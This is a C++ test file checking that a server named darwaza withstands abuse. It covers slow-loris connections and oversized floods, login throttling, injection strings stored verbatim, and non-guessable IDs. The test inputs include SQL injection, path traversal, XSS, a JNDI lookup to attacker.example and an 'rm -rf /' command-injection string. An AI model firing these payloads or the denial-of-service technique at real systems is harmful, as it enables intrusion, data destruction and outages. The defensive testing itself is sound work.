// End-to-end abuse: slow-loris and oversized requests are cut off while a normal client is
// still served; login brute force and password spraying are throttled under the default
// limits; SQL- and path-injection strings are stored and returned verbatim; tracking numbers
// and certificate ids are random, not sequences one could walk.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <regex>
#include <set>
#include <thread>

#include <boost/asio.hpp>

#include "support/fixtures.hpp"

using namespace darwaza::test;
using nlohmann::json;
namespace net = boost::asio;
using tcp = net::ip::tcp;

namespace {

constexpr int kSlowConnections = 100;
constexpr int kNormalRequests = 30;
// Generous bound for the server to cut a slow-loris (its read timeout here is 1 s): a
// correctness bound (without the cut it is never), not a speed figure.
constexpr auto kCutDeadline = std::chrono::seconds(15);

const std::vector<std::string> kHostile = {
    "Robert'); DROP TABLE applications;--",
    "' OR '1'='1' --",
    "\" OR 1=1; DELETE FROM users WHERE \"\"=\"",
    "1; UPDATE audit_log SET hash = 'x'",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "<script>alert('x')</script>",
    "${jndi:ldap://attacker.example/a}",
    "$(rm -rf /) `id`",
    "اردو 'quoted' \"double\" \\ backslash",
};

std::string percent_encoded(const std::string& s) {
  static const char* kHex = "0123456789ABCDEF";
  std::string out;
  for (unsigned char ch : s) {
    if (std::isalnum(ch) || ch == '-' || ch == '_' || ch == '.' || ch == '~') {
      out += static_cast<char>(ch);
    } else {
      out += '%';
      out += kHex[ch >> 4];
      out += kHex[ch & 15];
    }
  }
  return out;
}

double ms_since(std::chrono::steady_clock::time_point t0) {
  return std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
}

// Reads until the server closes the connection or `deadline` passes; true when it closed.
bool closed_by_server(tcp::socket& s, std::chrono::steady_clock::time_point deadline) {
  s.non_blocking(true);
  char buf[1024];
  while (std::chrono::steady_clock::now() < deadline) {
    boost::system::error_code ec;
    s.read_some(net::buffer(buf), ec);
    if (ec == net::error::would_block) {
      std::this_thread::sleep_for(std::chrono::milliseconds(20));  // polling interval
      continue;
    }
    if (ec) return true;  // eof or reset
  }
  return false;
}

TEST(Abuse, SlowLorisAndOversizeAreCutWhileNormalClientsAreServed) {
  ServerProcess s({"--read-timeout-ms", "1000", "--body-timeout-ms", "1000", "--catalog-dir",
                   DARWAZA_TEST_FIXTURES "/services"});
  s.start();
  net::io_context ioc;
  const tcp::endpoint ep(net::ip::make_address("127.0.0.1"), s.port());
  // Half-sent headers that never finish, and half-sent bodies.
  std::vector<tcp::socket> slow;
  for (int i = 0; i < kSlowConnections; ++i) {
    slow.emplace_back(ioc);
    slow.back().connect(ep);
    std::string part = i % 2 ? "GET /v1/services HTTP/1.1\r\nHost: x\r\nX-Slow: "
                             : "POST /v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                               "Content-Length: 1000\r\n\r\n{\"login\":";
    net::write(slow.back(), net::buffer(part));
  }
  // A trickle: one header byte every 100 ms keeps resetting nothing; the whole header has a deadline.
  std::atomic<bool> trickle_cut{false};
  std::thread trickle([&] {
    tcp::socket t(ioc);
    t.connect(ep);
    net::write(t, net::buffer(std::string("GET /healthz HTTP/1.1\r\n")));
    auto until = std::chrono::steady_clock::now() + kCutDeadline;
    while (std::chrono::steady_clock::now() < until) {
      boost::system::error_code ec;
      net::write(t, net::buffer(std::string("X")), ec);
      if (ec) {
        trickle_cut = true;
        return;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
  });
  // Floods of oversized requests at the same time.
  std::atomic<bool> stop{false};
  std::atomic<int> refused_431{0}, refused_413{0};
  std::vector<std::thread> flood;
  for (int k = 0; k < 2; ++k) {
    flood.emplace_back([&, k] {
      HttpClient f = s.client();
      while (!stop) {
        try {
          if (k == 0) {
            auto r = f.get("/v1/services", {{"X-Big", std::string(20000, 'a')}});
            if (r.status == 431) ++refused_431;
          } else {
            auto r = f.request("POST", "/v1/auth/signup", std::string(2 * 1024 * 1024, '{'),
                               {{"Content-Type", "application/json"}});
            if (r.status == 413) ++refused_413;
          }
        } catch (const std::exception&) {
          // A refused oversized request may end in a reset: expected.
        }
      }
    });
  }

  HttpClient c = s.client();
  double worst_ms = 0;
  // At least kNormalRequests, and on until both floods have been refused a few times.
  auto flood_deadline = std::chrono::steady_clock::now() + kCutDeadline;
  int served = 0;
  for (int i = 0; i < kNormalRequests || ((refused_431 < 3 || refused_413 < 3) &&
                                          std::chrono::steady_clock::now() < flood_deadline); ++i) {
    ++served;
    auto t0 = std::chrono::steady_clock::now();
    auto r = c.get(i % 2 ? "/v1/services" : "/healthz");
    worst_ms = std::max(worst_ms, ms_since(t0));
    EXPECT_EQ(r.status, 200u) << r.body;
  }
  Person p = signed_in(c, "Served During Attack");
  EXPECT_FALSE(p.token.empty());
  stop = true;
  for (auto& t : flood) t.join();
  EXPECT_GT(refused_431.load(), 0);
  EXPECT_GT(refused_413.load(), 0);

  auto deadline = std::chrono::steady_clock::now() + kCutDeadline;
  int cut = 0;
  for (auto& sock : slow) cut += closed_by_server(sock, deadline) ? 1 : 0;
  EXPECT_EQ(cut, kSlowConnections);
  trickle.join();
  EXPECT_TRUE(trickle_cut);
  std::cout << "abuse: " << kSlowConnections << " slow-loris connections and oversized floods (" << refused_431
            << " x 431, " << refused_413 << " x 413); " << served
            << " normal requests all served, slowest " << worst_ms << " ms; " << cut << " slow connections cut\n";
}

// What the server sends on `s` until it closes the connection or `deadline` passes.
std::string read_until_closed(tcp::socket& s, std::chrono::steady_clock::time_point deadline) {
  s.non_blocking(true);
  std::string got;
  char buf[4096];
  while (std::chrono::steady_clock::now() < deadline) {
    boost::system::error_code ec;
    std::size_t n = s.read_some(net::buffer(buf), ec);
    got.append(buf, n);
    if (ec == net::error::would_block) {
      std::this_thread::sleep_for(std::chrono::milliseconds(20));  // polling interval
      continue;
    }
    if (ec) break;  // eof or reset
  }
  return got;
}

// A request to no route (404, or 405 for a path with other methods) is held to the server's body
// limit like any other: one that declares a larger body is answered at once and its connection
// closed, and a chunked body that grows past the limit is refused with 413. (Before, such a body
// was read whole into memory, however large, before the 404.)
TEST(Abuse, ABodyForNoRouteIsHeldToTheServersLimit) {
  ServerProcess s({"--body-timeout-ms", "20000"});
  s.start();
  net::io_context ioc;
  const tcp::endpoint ep(net::ip::make_address("127.0.0.1"), s.port());
  for (const std::string target : {"POST /v1/no-such-route", "PUT /v1/services"}) {
    tcp::socket declared(ioc);
    declared.connect(ep);
    net::write(declared, net::buffer(target + " HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n"));
    // Well before the body timeout: the answer does not wait for the body.
    std::string got = read_until_closed(declared, std::chrono::steady_clock::now() + std::chrono::seconds(10));
    EXPECT_TRUE(got.starts_with(target.starts_with("PUT") ? "HTTP/1.1 405" : "HTTP/1.1 404")) << target << ": " << got;
    EXPECT_NE(got.find("Connection: close"), std::string::npos) << got;
  }
  {
    tcp::socket chunked(ioc);
    chunked.connect(ep);
    net::write(chunked, net::buffer(std::string("POST /v1/no-such-route HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")));
    const std::string chunk = "10000\r\n" + std::string(0x10000, 'a') + "\r\n";  // 64 KiB
    boost::system::error_code ec;
    for (int i = 0; i < 32 && !ec; ++i) net::write(chunked, net::buffer(chunk), ec);  // 2 MiB, beyond 1 MiB
    std::string got = read_until_closed(chunked, std::chrono::steady_clock::now() + std::chrono::seconds(10));
    EXPECT_TRUE(got.starts_with("HTTP/1.1 413")) << got.substr(0, 300);
  }
  {
    // A client waiting to be told to send its body (Expect: 100-continue) gets the 404 at once.
    tcp::socket waiting(ioc);
    waiting.connect(ep);
    net::write(waiting, net::buffer(std::string("POST /v1/no-such-route HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n"
                                                "Expect: 100-continue\r\n\r\n")));
    std::string got = read_until_closed(waiting, std::chrono::steady_clock::now() + std::chrono::seconds(10));
    EXPECT_TRUE(got.starts_with("HTTP/1.1 404")) << got;
  }
  // A small body for no route: 404, and the connection serves the next request.
  HttpClient c = s.client();
  EXPECT_EQ(c.request("POST", "/v1/no-such-route", std::string(1000, 'a'), {{"Content-Type", "text/plain"}}).status, 404u);
  EXPECT_EQ(c.get("/healthz").status, 200u);
}

TEST(Abuse, LoginBruteForceAndSprayingAreThrottledByDefault) {
  ServerProcess s({"--rate-limit-per-minute", "120", "--rate-limit-burst", "30"});  // the serve defaults
  s.start();
  HttpClient c = s.client();
  Person victim = signed_in(c, "Brute Force Victim");
  int throttled = 0;
  for (int i = 0; i < 10; ++i) {
    auto r = c.post_json("/v1/auth/login", {{"login", victim.cnic}, {"password", "guess " + std::to_string(i)}});
    if (r.status == 429) ++throttled;
    else EXPECT_EQ(r.status, 401u) << r.body;
  }
  EXPECT_GT(throttled, 0) << "ten wrong passwords for one account were never throttled";
  // While throttled, even the right password is refused.
  EXPECT_EQ(c.post_json("/v1/auth/login", {{"login", victim.cnic}, {"password", victim.password}}).status, 429u);
  // Spraying one password over many accounts from one address hits the per-address limit.
  int limited = 0;
  for (int i = 0; i < 60; ++i) {
    Person other = new_person();
    auto r = c.post_json("/v1/auth/login", {{"login", other.cnic}, {"password", "Summer2026!"}});
    if (r.status == 429 && r.json().value("type", "") == "/problems/rate-limited") ++limited;
  }
  EXPECT_GT(limited, 0) << "sixty logins from one address were never rate limited";
}

class Injection : public ShippedDataSuite {};

TEST_F(Injection, HostileStringsAreStoredAndReturnedVerbatim) {
  Person p = signed_in(c, "Injection Citizen");
  Person officer = staff("pta");
  int n = 0;
  for (const auto& evil : kHostile) {
    ++n;
    json data = {{"registrant_name", evil}, {"cnic", p.cnic}, {"email", p.email}, {"mobile", p.mobile},
                 {"vpn_type", "wireguard"}, {"endpoints", {"41.200." + std::to_string(n) + ".0/24"}},
                 {"purpose", evil + " for remote development"}, {"isp", evil}};
    auto r = c.post_json("/v1/applications", {{"service_id", "pta-vpn-registration"}, {"data", data}}, bearer(p.token));
    ASSERT_EQ(r.status, 201u) << evil << ": " << r.body;
    std::string id = r.json()["id"];
    auto back = c.get("/v1/applications/" + id, bearer(p.token)).json();
    EXPECT_EQ(back["data"]["registrant_name"], evil);
    EXPECT_EQ(back["data"]["purpose"], evil + " for remote development");
    EXPECT_EQ(back["data"]["isp"], evil);
    // An officer's comment, free text too.
    ASSERT_EQ(c.post_json("/v1/applications/" + id + "/claim", json::object(), bearer(officer.token)).status, 200u);
    auto t = c.post_json("/v1/applications/" + id + "/transitions", {{"transition", "start_review"}, {"comment", evil}},
                         bearer(officer.token));
    ASSERT_EQ(t.status, 200u) << t.body;
    bool found = false;
    const json view = c.get("/v1/applications/" + id, bearer(p.token)).json();
    for (const auto& e : view["timeline"])
      found = found || e.value("comment", "") == evil;
    EXPECT_TRUE(found) << evil;
    // Organisation names (a new owner each: one firm per NTN).
    Person owner = signed_in(c, "Injection Owner");
    auto org = c.post_json("/v1/organisations", {{"name", evil + " Ltd"}, {"ntn", owner.cnic.substr(6, 7) + "-5"}},
                           bearer(owner.token));
    if (org.status == 201)
      EXPECT_EQ(c.get("/v1/organisations/" + org.json()["id"].get<std::string>(), bearer(owner.token)).json()["name"],
                evil + " Ltd");
    else
      EXPECT_EQ(org.status, 422u) << org.body;  // refused as a value, never as a server error
    // As a search text and in a path, raw and percent-encoded, they find nothing and break nothing.
    for (const std::string& text : {evil, percent_encoded(evil)}) {
      auto q = c.get("/v1/registries/pta-vpn-endpoints/records?q=" + text);
      if (q.status == 200)
        EXPECT_TRUE(q.json()["items"].empty()) << q.body;  // searched for as text: nothing matches
      else
        EXPECT_TRUE(q.status >= 400 && q.status < 500) << q.status << " " << q.body;  // refused as a value
      for (const char* prefix : {"/v1/applications/", "/v1/documents/", "/v1/services/", "/v1/certificates/"}) {
        auto r2 = c.get(prefix + text, bearer(p.token));
        EXPECT_TRUE(r2.status >= 400 && r2.status < 500) << prefix << text << ": " << r2.status << " " << r2.body;
      }
    }
  }
  // Nothing was executed: the tables are all still there and counting.
  EXPECT_EQ(c.get("/v1/applications?page_size=1", bearer(p.token)).json()["total"], static_cast<int>(kHostile.size()));
  EXPECT_EQ(c.get("/v1/services").status, 200u);
  std::string out;
  EXPECT_EQ(run_darwaza({"audit", "verify", "--data", server().data_dir() + "/d"}, out), 0) << out;
}

// Positions (of equal-length strings) where a and b differ.
int differing(const std::string& a, const std::string& b) {
  int d = 0;
  for (std::size_t i = 0; i < std::min(a.size(), b.size()); ++i) d += a[i] != b[i];
  return d;
}

TEST_F(Injection, TrackingNumbersAndCertificateIdsAreNotEnumerable) {
  Person p = signed_in(c, "Enumeration Citizen");
  Person officer = staff("pta");
  const std::regex tracking_format("DZ(-[2-9A-HJ-NP-Z]{4}){4}");   // 16 symbols of 32: 40 bits of time, 40 random
  const std::regex cert_format("crt_[a-km-z2-9]{20}");             // 20 symbols of 32: 100 bits
  std::vector<std::string> tracking, certs;
  for (int i = 0; i < 6; ++i) {
    json data = {{"registrant_name", p.name}, {"cnic", p.cnic}, {"email", p.email}, {"mobile", p.mobile},
                 {"vpn_type", "ipsec"}, {"endpoints", {"41.201." + std::to_string(i) + ".0/24"}},
                 {"purpose", "Remote work for enumeration test"}, {"isp", "PTCL"}};
    auto r = c.post_json("/v1/applications", {{"service_id", "pta-vpn-registration"}, {"data", data}}, bearer(p.token));
    ASSERT_EQ(r.status, 201u) << r.body;
    tracking.push_back(r.json()["tracking_number"]);
    auto approved = approve_application(c, officer, r.json()["id"]);
    ASSERT_EQ(approved.status, 200u) << approved.body;
    certs.push_back(approved.json().value("certificate_id", ""));
  }
  for (std::size_t i = 0; i < tracking.size(); ++i) {
    EXPECT_TRUE(std::regex_match(tracking[i], tracking_format)) << tracking[i];
    EXPECT_TRUE(std::regex_match(certs[i], cert_format)) << certs[i];
    // Made one after another, yet far apart: no counter. A tracking number starts with its time
    // (DZ-TTTT-TTTT, so that their index grows at one end); its random half (RRRR-RRRR, 40 bits)
    // differs (each symbol alike by chance 1 in 32: 4 or more of 8 differ but once in 600,000).
    if (i > 0) {
      EXPECT_GE(differing(tracking[i].substr(12), tracking[i - 1].substr(12)), 4) << tracking[i - 1] << " then " << tracking[i];
      EXPECT_LE(tracking[i - 1].substr(0, 12), tracking[i].substr(0, 12)) << "the later one's time part";
      EXPECT_GE(differing(certs[i], certs[i - 1]), 10) << certs[i - 1] << " then " << certs[i];
    }
  }
  EXPECT_EQ(std::set<std::string>(tracking.begin(), tracking.end()).size(), tracking.size());
  // A neighbour of a real id (last symbol changed) is not a certificate.
  std::string neighbour = certs[0];
  neighbour.back() = neighbour.back() == 'a' ? 'b' : 'a';
  EXPECT_EQ(c.get("/v1/certificates/" + neighbour + "/verify").status, 404u);
  EXPECT_EQ(c.get("/v1/certificates/" + certs[0] + "/verify").status, 200u);
}

}  // namespace
